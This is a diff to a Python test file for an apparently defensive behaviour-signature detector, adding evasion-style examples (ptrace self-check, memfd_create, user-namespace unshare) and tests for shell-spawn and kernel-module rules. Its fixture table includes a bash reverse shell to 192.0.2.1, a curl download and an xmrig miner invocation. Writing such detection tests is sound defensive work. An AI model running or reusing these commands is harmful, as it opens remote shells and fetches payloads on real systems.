@@ -55,6 +55,9 @@ EXAMPLES: dict[str, Behaviour] = {
         processes=(["payload"],), files=[{"path": "/usr/bin/payload", "actions": ["created", "written"]}]
     ),
     "traces_another_process": seen(timeline=[{"event": "ptrace", "detail": "PTRACE_ATTACH 1"}]),
+    "debugger_check": seen(timeline=[{"event": "ptrace", "detail": "PTRACE_TRACEME = 0"}]),
+    "program_in_memory": seen(timeline=[{"event": "memfd_create", "detail": '"x", MFD_CLOEXEC = 3'}]),
+    "leaves_its_boundaries": seen(timeline=[{"event": "unshare", "detail": "CLONE_NEWUSER = 0"}]),
     "download_tool": seen(processes=(["curl", "http://192.0.2.1/a"],)),
     "reverse_shell": seen(processes=(["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4242 0>&1"],)),
     "miner": seen(processes=(["xmrig", "-o", "pool"],)),
@@ -96,6 +99,21 @@ def test_each_signature_finds_what_it_is_for_and_leaves_a_quiet_program_alone(si
     """Every row of the table has an example that it finds, and none of them finds anything in a quiet run."""
     assert signature.condition.find(EXAMPLES[signature.name])
     assert signature.condition.find(QUIET) == ()
+
+
+def test_a_fork_of_a_script_is_not_a_shell_that_it_started() -> None:
+    """A process that only copies its parent's program runs nothing new."""
+    fork = {**FIRST, "pid": 2, "ppid": 1}
+    again = {"pid": 3, "ppid": 2, "argv": ["sh", "-c", "true"], "exe": "/bin/sh"}
+    spawns = next(signature for signature in SIGNATURES if signature.name == "spawns_shell")
+    assert spawns.condition.find(Behaviour.model_validate({"processes": [FIRST, fork]})) == ()
+    assert spawns.condition.find(Behaviour.model_validate({"processes": [FIRST, fork, again]})) == ("/processes/2",)
+
+
+def test_a_system_call_that_loads_a_module_counts_like_the_command() -> None:
+    """The condition asks both questions."""
+    loaded = seen(timeline=[{"event": "finit_module", "detail": "3 = -1 EPERM"}])
+    assert judge([], observed(loaded), has_run=True).reasons[0].name == "kernel_module"
 
 
 def test_signatures_have_names_of_their_own_and_an_example_each() -> None:
